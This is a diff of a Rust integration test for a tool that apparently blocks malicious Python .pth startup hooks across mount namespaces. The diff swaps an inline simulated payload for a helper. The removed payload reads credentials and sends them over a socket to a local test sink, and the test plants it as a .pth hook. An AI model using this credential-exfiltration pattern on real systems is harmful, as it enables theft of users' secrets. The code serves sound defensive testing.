@@ -5,7 +5,7 @@ use std::time::Duration;
 
 use integration_tests::{
     Daemon, PYTHON, Sandbox, TcpSink, can_run,
-    payload::{READ_CREDENTIALS, spawning_pth_line, wait_marker},
+    payload::{exfiltrate, spawning_pth_line, wait_marker},
     run_bounded,
 };
 
@@ -25,20 +25,7 @@ fn a_hook_inside_another_mount_namespace_is_read_there_and_blocked() {
     let inner = sb.root.join("container-site");
     std::fs::create_dir_all(&inner).expect("mkdir");
     sb.pth("host_only.pth", "/nonexistent/path\n");
-    let child = format!(
-        "{READ_CREDENTIALS}
-import socket
-try:
-    s = socket.create_connection(('127.0.0.1', {}), timeout=5)
-    s.sendall(blob)
-    r = 'sent'
-except OSError as e:
-    r = 'error %d' % e.errno
-with open(os.path.join(home, 'payload.done'), 'w') as f:
-    f.write(r)
-",
-        sink.port
-    );
+    let child = exfiltrate(sink.port);
     let line = spawning_pth_line(&child);
     std::fs::write(inner.join("container_init.pth"), &line).expect("write");
     let inside = sb.site.join("container_init.pth");
